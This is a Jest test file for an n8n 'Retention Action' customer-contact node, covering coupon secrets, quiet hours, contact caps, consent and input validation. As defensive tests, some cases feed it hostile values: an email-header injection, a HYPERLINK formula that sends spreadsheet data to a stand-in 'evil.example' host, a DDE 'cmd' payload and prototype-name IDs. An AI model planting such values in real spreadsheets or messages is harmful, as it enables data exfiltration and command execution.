import type { IDataObject } from 'n8n-workflow';
import { runWorkflow } from '../../devkit/engine/harness';
import { customer, OUTPUTS, retentionAction, run, withContactLog } from './retentionActionRuns';
import { linearWorkflow, rowsStep } from '../../devkit/engine/workflowBuilder';

/** Customer IDs that are names on every plain object's prototype. */
export const PROTOTYPE_IDS = ['constructor', '__proto__', 'toString', 'hasOwnProperty', 'valueOf'];

const CAPS = { cooldownDays: 14, maxContacts: 2, windowDays: 30, quietStart: '21:00', quietEnd: '09:00' };

describe('Retention Action refuses to issue coupons anyone could mint', () => {
	it.each([
		['', 'Coupon Secret is empty'],
		['change-me-for-each-client', 'Coupon Secret "change-me-for-each-client" is a placeholder'],
		['short-secret', 'Coupon Secret is shorter than 16 characters'],
	])('secret %j: stops before any code goes out, saying what to set', async (couponSecret, problem) => {
		const result = await runWorkflow(linearWorkflow([rowsStep([customer('A')]), retentionAction({ options: { couponSecret } })]));
		expect(result.error?.message).toBe(`${problem}: no coupon codes issued (customer A would get one)`);
		expect((result.error as { description?: string }).description).toMatch(/^Set Options > Coupon Secret to a long random text/);
	});

	it('needs no secret when no contacted customer gets a coupon', async () => {
		const { byId } = await run([customer('A')], { playbookSource: 'json', playbookJson: JSON.stringify([{ note: 'care', action: 'careMessage' }]), options: { couponSecret: '' } });
		expect(byId.A).toMatchObject({ output: 'email', action: 'careMessage', couponCode: null });
	});
});

describe('Retention Action keeps text from the data on one line where a header is built from it', () => {
	it('turns CR/LF and other control characters of a name or store name into a space', async () => {
		const { byId } = await run([customer('A', { firstName: 'Ann\r\nBcc: all@evil.example' }), customer('B', { firstName: 'Bo\u0000b', expectedOrdersIfActive: 20 })], {
			storeName: 'Tea\r\nHouse',
		});
		expect(byId.A.subject).toBe('A thank-you from Tea House, Ann Bcc: all@evil.example');
		for (const field of ['subject', 'pushTitle', 'taskSubject'] as const) {
			for (const id of ['A', 'B']) expect([id, field, /[\u0000-\u001f]/.test(String(byId[id][field] ?? ''))]).toEqual([id, field, false]);
		}
		expect(byId.B.taskSubject).toMatch(/^Win back Bo b: /);
	});
});

describe('Retention Action counts contacts scheduled past quiet hours', () => {
	it('three evening runs email a customer once: 22:00 schedules for 09:00, 22:30 and 23:59 see it (node memory)', async () => {
		const staticData: IDataObject = {};
		const runs = [];
		for (const sendTime of ['2024-06-30T22:00:00Z', '2024-06-30T22:30:00Z', '2024-06-30T23:59:00Z']) runs.push(await run([customer('A')], { sendTime, options: CAPS }, staticData));
		expect(runs.map((r) => r.byId.A.output)).toEqual(['email', 'none', 'none']);
		expect(runs[0].byId.A).toMatchObject({ contactedAt: '2024-07-01T09:00:00.000Z' });
		expect(runs[1].byId.A.suppressionReason).toBe('same action already scheduled for 2024-07-01T09:00:00.000Z (cooldown 14 days)');
	});

	it('the same through the Contact Log, and the frequency cap counts scheduled contacts too', async () => {
		const log = [{ customerId: 'A', contactedAt: '2024-07-01T09:00:00.000Z', action: 'loyaltyPerk', group: 'treatment' }];
		const again = await runWorkflow(withContactLog([customer('A')], log, { sendTime: '2024-06-30T23:59:00Z', options: { ...CAPS, rememberContacts: false } }));
		expect(again.error).toBeUndefined();
		expect(again.json('Retention Action', OUTPUTS.indexOf('none'))[0]).toMatchObject({ customerId: 'A', suppressionReason: 'same action already scheduled for 2024-07-01T09:00:00.000Z (cooldown 14 days)' });
		const capped = await runWorkflow(
			withContactLog([customer('A')], [...log, { customerId: 'A', contactedAt: '2024-06-25T10:00:00Z', action: 'careMessage' }], { sendTime: '2024-06-30T23:59:00Z', options: { ...CAPS, cooldownDays: 0, rememberContacts: false } }),
		);
		expect(capped.json('Retention Action', OUTPUTS.indexOf('none'))[0]).toMatchObject({ customerId: 'A', suppressionReason: '2 contacts in the last 30 days (1 scheduled) (limit 2)' });
	});
});

describe('Retention Action decides once for a customer listed twice', () => {
	it('contacts the first record and says why the second is left out: one message, one coupon', async () => {
		const { byOutput } = await run([customer('A'), customer('B'), customer('A', { firstName: 'Again' })]);
		const a = OUTPUTS.flatMap((o) => byOutput[o].filter((item) => item.customerId === 'A').map((item) => ({ output: o, firstName: item.firstName, reason: item.suppressionReason })));
		expect(a).toEqual([
			{ output: 'email', firstName: 'A', reason: null },
			{ output: 'none', firstName: 'Again', reason: 'listed again in this run: decided once, by the first record of this customer' },
		]);
	});
});

describe('Retention Action and Lifecycle Stage with customer IDs that are prototype names', () => {
	it('contacts each such customer, remembers them, and holds them back on the next run', async () => {
		const staticData: IDataObject = {};
		const first = await run(PROTOTYPE_IDS.map((id) => customer(id)), {}, staticData);
		expect(first.byOutput.email.map((item) => item.customerId).sort()).toEqual([...PROTOTYPE_IDS].sort());
		const again = await run(PROTOTYPE_IDS.map((id) => customer(id)), { sendTime: '2024-07-02T10:00:00Z' }, staticData);
		expect(again.byOutput.none.map((item) => [item.customerId, String(item.suppressionReason).slice(0, 11)]).sort()).toEqual(PROTOTYPE_IDS.map((id) => [id, 'same action']).sort());
	});

	it('Lifecycle Stage remembers them: unchanged on the second run', async () => {
		const staticData: IDataObject = {};
		const rows = PROTOTYPE_IDS.map((customerId) => ({ customerId, orders: 3, recencyDays: 10, tenureDays: 100, avgDaysBetweenOrders: 30 }));
		const step = { name: 'Lifecycle Stage', type: 'lifecycleStage', parameters: { analysisDate: '2024-11-01' } };
		await runWorkflow(linearWorkflow([rowsStep(rows), step]), { staticData });
		const second = await runWorkflow(linearWorkflow([rowsStep(rows), step]), { staticData });
		expect(second.json('Lifecycle Stage').map((r) => [r.customerId, r.stageChanged, r.previousStage])).toEqual(PROTOTYPE_IDS.map((id) => [id, false, 'active']));
	});
});

describe('Retention Action writes contact-log rows that a spreadsheet cannot run', () => {
	const hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
	it('protects formula-like text with a leading quote, and reads its own rows back as the same customer', async () => {
		const { byId } = await run([customer(hostile, { rfm: { segment: "-2+3+cmd|' /C calc'!A0" } }), customer('-42', { rfm: { segment: '@SUM(A1)' } })]);
		expect(byId[hostile].contactLogRow).toMatchObject({ customerId: `'${hostile}`, segment: "'-2+3+cmd|' /C calc'!A0", group: 'treatment', action: 'loyaltyPerk' });
		// A number stays a number; a formula after it does not.
		expect(byId['-42'].contactLogRow).toMatchObject({ customerId: '-42', segment: "'@SUM(A1)" });
		const log = [byId[hostile].contactLogRow as IDataObject];
		const again = await runWorkflow(withContactLog([customer(hostile)], log, { sendTime: '2024-07-02T10:00:00Z', options: { rememberContacts: false } }));
		expect(again.json('Retention Action', OUTPUTS.indexOf('none'))[0]).toMatchObject({ customerId: hostile, suppressionReason: 'same action 2 days ago (cooldown 14 days)' });
	});
});

describe('Retention Action reads consent in every shape an item carries it, and an opt-out wins', () => {
	it.each([
		['consent: false', { consent: false }],
		['top-level emailConsent', { consent: undefined, emailConsent: 'no' }],
		['unsubscribed: true', { unsubscribed: true }],
		['email_opt_in', { consent: undefined, email_opt_in: 'STOP!' }],
		['consent.Email', { consent: { Email: 'unsubscribed 2024-05-01', sms: false } }],
		['a yes beside a no', { consent: { email: true, sms: false }, email_opt_in: '退订了' }],
	])('%s: never emailed, even with Require Opt-In off', async (_shape, overrides) => {
		const { byId } = await run([customer('A', { ...overrides, phone: null })], { requireOptIn: false, channelOrder: 'email' });
		expect(byId.A.output).toBe('none');
		expect(byId.A.suppressionReason).toMatch(/opted out of email/);
	});
});

describe('Retention Action refuses values that would make figures infinite, and says which', () => {
	it('stops on predictedClv 1e308 naming the customer and the field', async () => {
		const result = await runWorkflow(linearWorkflow([rowsStep([customer('A', { predictedClv: 1e308 })]), retentionAction()]));
		expect(result.error?.message).toBe('Item 0 (customer A) predictedClv 1e+308 is beyond any customer\'s value (more than 1e+12): check the field and its unit');
	});

	it('an unreadable lastContactedAt is an error, not a customer who was never contacted', async () => {
		const result = await runWorkflow(linearWorkflow([rowsStep([customer('A', { lastContactedAt: 'last Tuesday' })]), retentionAction()]));
		expect(result.error?.message).toMatch(/^Item 0 \(customer A\) lastContactedAt "last Tuesday" is not a date format/);
	});

	it('reads a contact-log date that can only be month first, and takes a Date Order for the others', async () => {
		const log = [{ customerId: 'A', contactedAt: '6/25/2024 10:00', action: 'loyaltyPerk' }];
		const read = await runWorkflow(withContactLog([customer('A')], log, { options: { rememberContacts: false } }));
		expect(read.json('Retention Action', OUTPUTS.indexOf('none'))[0]).toMatchObject({ customerId: 'A', suppressionReason: 'same action 5 days ago (cooldown 14 days)' });
		const ambiguous = [{ customerId: 'A', contactedAt: '06/05/2024', action: 'loyaltyPerk' }];
		const dayFirst = await runWorkflow(withContactLog([customer('A')], ambiguous, { options: { rememberContacts: false, dateOrder: 'mdy', cooldownDays: 30 } }));
		expect(dayFirst.json('Retention Action', OUTPUTS.indexOf('none'))[0]).toMatchObject({ customerId: 'A', suppressionReason: 'same action 25 days ago (cooldown 30 days)' });
	});

	it('an object as customerId is no ID: the item is refused, never "[object Object]"', async () => {
		const result = await runWorkflow(linearWorkflow([rowsStep([customer('A'), { ...customer('B'), customerId: { id: 'B' } }]), retentionAction()]));
		expect(result.error?.message).toBe('Item 1 has no customerId (a text or a number)');
	});
});

describe('Retention Action tiers equal customers equally, and not all at the top', () => {
	it('20 identical at-risk customers under Email Only are emailed, none turned into VIP calls', async () => {
		const same = Array.from({ length: 20 }, (_, i) => customer(`Same${i}`));
		const { byOutput, byId } = await run(same, { channelOrder: 'email,crm' });
		expect(byOutput.crm).toEqual([]);
		expect(byOutput.email).toHaveLength(20);
		expect(new Set(Object.values(byId).map((c) => c.valueTier))).toEqual(new Set(['medium']));
	});
});
